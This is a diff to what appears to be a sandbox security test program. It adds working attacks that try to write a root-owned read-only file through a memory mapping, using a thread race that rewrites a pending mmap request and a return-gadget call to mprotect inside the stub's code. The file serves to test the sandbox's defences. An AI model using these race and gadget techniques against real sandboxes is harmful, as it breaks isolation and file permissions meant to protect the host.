@@ -15,9 +15,15 @@
  * receives on the stub's fd-passing socket (fd 3, through the stub's own
  * syscall instruction) while another process maps a file must get nothing
  * (the sentry hands each stub process's fds over a socket of its own).
+ * And a read-only tmpfs file (root's, 0444, opened read-only as uid 65534)
+ * must not be written through a mapping: neither by a sibling thread that
+ * rewrites the mapping thread's mmap request in its slot (private into
+ * shared), nor by an mprotect made through the stub's code (the fd the
+ * stub was handed is read-only).
  */
 #include "attack.h"
 
+#include <pthread.h>
 #include <sched.h>
 #include <setjmp.h>
 #include <sys/socket.h>
@@ -382,6 +388,220 @@ static void attack_fdsteal(void)
     munmap(fs, sizeof *fs);
 }
 
+/* --- a read-only tmpfs file written through its mapping ------------------- */
+
+/* A file root made read-only (0444) in the sandbox's /tmp, and a process of
+ * another uid that may only read it.  The host fd the sentry hands the
+ * stub for a mapping of it must carry no more than that: guest code can
+ * rewrite the request in its shared slot while its stub reads it (another
+ * thread of the process), and can make mprotect itself (the gadget). */
+#define RO_UID 65534
+#define RACE_MAPS 20000
+
+struct rofile {
+    char path[64];
+    int fd;
+    unsigned char *slot;        /* the mapping thread's slot */
+    volatile int stop;
+    long flips;                 /* requests the racer rewrote */
+};
+
+/* The racer: turns every file mmap request in the slot into a shared one. */
+static void *ro_racer(void *arg)
+{
+    struct rofile *rf = arg;
+    volatile uint64_t *a = (volatile uint64_t *)(rf->slot + 0x98);   /* SLOT_ARGS */
+    while (!rf->stop) {
+        uint64_t flags = a[4];
+        if (a[0] == SYS_mmap && (flags & MAP_TYPE) == MAP_PRIVATE && a[5] < 1024) {
+            a[4] = (flags & ~(uint64_t)MAP_TYPE) | MAP_SHARED;
+            rf->flips++;
+        }
+    }
+    return NULL;
+}
+
+/* 1 if byte V of the file is what the guest wrote at its mapping's start. */
+static int file_has(struct rofile *rf, unsigned char v)
+{
+    unsigned char b = 0;
+    return pread(rf->fd, &b, 1, 0) == 1 && b == v;
+}
+
+static void a_ro_race(void *arg)
+{
+    struct rofile *rf = arg;
+    if (setgid(RO_UID) < 0 || setuid(RO_UID) < 0)
+        _exit(10);
+    if ((rf->fd = open(rf->path, O_RDONLY | O_CLOEXEC)) < 0)
+        _exit(11);
+    if (open(rf->path, O_RDWR | O_CLOEXEC) >= 0)
+        _exit(12);   /* the control: it may not write the file */
+    /* Our one thread's slot, before the racer has one. */
+    for (int i = 0; i < 4096 && !rf->slot; i++) {
+        unsigned char *s = (unsigned char *)(SLOT_START + (uintptr_t)i * 0x10000);
+        if (readable(s))
+            rf->slot = s;
+    }
+    if (!rf->slot)
+        _exit(13);
+    pthread_t th;
+    if (pthread_create(&th, NULL, ro_racer, rf) != 0)
+        _exit(14);
+    int written = 0;
+    for (int i = 0; i < RACE_MAPS; i++) {
+        /* Private and writable: writes are copies of the page, unless the
+         * host mapping became shared. */
+        volatile unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, rf->fd, 0);
+        if (p == MAP_FAILED)
+            continue;
+        /* Not what the file holds now: a match is this write's. */
+        unsigned char v = 0;
+        if (pread(rf->fd, &v, 1, 0) != 1)
+            _exit(15);
+        v = v == 255 ? 1 : v + 1;
+        p[0] = v;
+        if (file_has(rf, v))
+            written++;
+        munmap((void *)p, 4096);
+    }
+    rf->stop = 1;
+    pthread_join(th, NULL);
+    printf("    %d private mappings, %ld requests rewritten, %d wrote the file\n", RACE_MAPS,
+           rf->flips, written);
+    fflush(stdout);
+    _exit(written ? 1 : 0);
+}
+
+/* The gadget returns only when the result is not 0: a successful mprotect
+ * goes on into the stub's clone-child code, stub_child_start(%r12, %r13).
+ * Given a slot of our own (fake) there and fd 3, that sets up and waits
+ * for a sentry that never answers.  So it is made by a process sharing our
+ * memory (CLONE_VM), which says how it went through the fake slot. */
+struct fake_slot {
+    char s[0x10000] __attribute__((aligned(4096)));
+    volatile int refused;
+};
+
+static long gadget_mprotect(void *addr, struct fake_slot *fake)
+{
+    long ret;
+    register long r12 __asm__("r12") = (long)fake->s;
+    register long r13 __asm__("r13") = 3;
+    __asm__ volatile("sub $128, %%rsp\n\t"
+                     "lea 1f(%%rip), %%rcx\n\t"
+                     "push %%rcx\n\t"
+                     "mov %[pops], %%ecx\n\t"
+                     "2: test %%ecx, %%ecx\n\t"
+                     "jz 3f\n\t"
+                     "push %%r13\n\t"              /* (popped into r13, r12) */
+                     "dec %%ecx\n\t"
+                     "jmp 2b\n\t"
+                     "3: jmp *%[g]\n\t"
+                     "1: add $128, %%rsp"
+                     : "=a"(ret), "+r"(r12), "+r"(r13)
+                     : "a"((long)SYS_mprotect), "D"(addr), "S"(4096L),
+                       "d"((long)(PROT_READ | PROT_WRITE)), [g] "b"(ret_gadget),
+                       [pops] "m"(ret_gadget_pops)
+                     : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
+    return ret;
+}
+
+static void *ro_page;
+
+static int ro_mprotect_child(void *arg)
+{
+    struct fake_slot *fake = arg;
+    long r = gadget_mprotect(ro_page, fake);
+    fake->refused = r == -EACCES ? 1 : 2;
+    _exit(0);
+}
+
+/* 1 if a byte store at P works (our guest's own view aside: the host's). */
+static int writable(volatile unsigned char *p, unsigned char v)
+{
+    struct sigaction sa = {.sa_handler = on_fault}, o1, o2;
+    int ok = 0;
+
+    sigaction(SIGSEGV, &sa, &o1);
+    sigaction(SIGBUS, &sa, &o2);
+    if (sigsetjmp(jb, 1) == 0) {
+        *p = v;
+        ok = 1;
+    }
+    sigaction(SIGSEGV, &o1, NULL);
+    sigaction(SIGBUS, &o2, NULL);
+    return ok;
+}
+
+/* Shared and read-only, then mprotect made by the stub's code for us. */
+static void a_ro_mprotect(void *arg)
+{
+    struct rofile *rf = arg;
+    static char stack[64 * 1024] __attribute__((aligned(16)));
+    if (setgid(RO_UID) < 0 || setuid(RO_UID) < 0)
+        _exit(10);
+    if ((rf->fd = open(rf->path, O_RDONLY | O_CLOEXEC)) < 0)
+        _exit(11);
+    volatile unsigned char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, rf->fd, 0);
+    if (p == MAP_FAILED)
+        _exit(12);
+    /* The CLONE_VM process's stack and its slot: our memory. */
+    struct fake_slot *fake = mmap(NULL, sizeof *fake, PROT_READ | PROT_WRITE,
+                                  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (fake == MAP_FAILED)
+        _exit(13);
+    ro_page = (void *)p;
+    pid_t c = clone(ro_mprotect_child, stack + sizeof stack, CLONE_VM | SIGCHLD, fake);
+    if (c < 0)
+        _exit(14);
+    /* Either it returns (refused), or the stub's code it ran on into
+     * marks the fake slot ready and waits there for good. */
+    struct stub_slot_head { uint32_t state, sentry_waiting, stub_waiting, event; };
+    volatile struct stub_slot_head *h = (volatile struct stub_slot_head *)fake->s;
+    while (!fake->refused && h->event == 0)
+        sched_yield();
+    if (!fake->refused)
+        kill(c, SIGKILL);
+    int w = writable(p, 0x77);
+    printf("    mprotect(PROT_WRITE) of the shared mapping by the stub's code: %s; the "
+           "page is %swritable\n", fake->refused == 1 ? "EACCES" : "done", w ? "" : "not ");
+    fflush(stdout);
+    _exit(w && file_has(rf, 0x77) ? 1 : 0);
+}
+
+static void attack_ro_file(const char *name, void (*fn)(void *))
+{
+    struct rofile *rf = mmap(NULL, sizeof *rf, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
+                             -1, 0);
+    if (rf == MAP_FAILED) {
+        printf("setup: mmap: %s\n", strerror(errno));
+        return;
+    }
+    snprintf(rf->path, sizeof rf->path, "/tmp/rofile.%d", getpid());
+    unlink(rf->path);
+    int fd = open(rf->path, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
+    static const char content[4096] = "read-only";
+    if (fd < 0 || write(fd, content, sizeof content) != sizeof content) {
+        printf("setup: %s: %s\n", rf->path, strerror(errno));
+        return;
+    }
+    close(fd);
+    int st = in_child(fn, rf);
+    unlink(rf->path);
+    if (st < 0)
+        printf("setup: fork: %s\n", strerror(errno));
+    else if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
+        escaped(name, "uid %d wrote %s (root's, mode 0444) through a mapping", RO_UID, rf->path);
+    else if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
+        refused(name, "the file is unchanged");
+    else if (WIFEXITED(st) && WEXITSTATUS(st) == 13)
+        refused(name, "no slot in the address space (ptrace platform)");
+    else
+        printf("setup: %s: child status %#x\n", name, st);
+    munmap(rf, sizeof *rf);
+}
+
 int main(int argc, char **argv)
 {
     attack_begin("proc");
@@ -437,6 +657,11 @@ int main(int argc, char **argv)
     expect_fail("mremap-stub", (long)mremap((void *)STUB_START, 4096, 8192, MREMAP_MAYMOVE) == -1 ? -1 : 0);
     find_ret_gadget();
     attack_fdsteal();
+    if (ret_gadget)
+        attack_ro_file("ro-tmpfs-gadget-mprotect", a_ro_mprotect);
+    else
+        refused("ro-tmpfs-gadget-mprotect", "no returning syscall gadget in the stub (ptrace platform)");
+    attack_ro_file("ro-tmpfs-slot-race", a_ro_race);
     run_attack("write-stub-code", a_write_stub_code, NULL);
     run_attack("scribble-own-slot", a_scribble_slots, NULL);
 
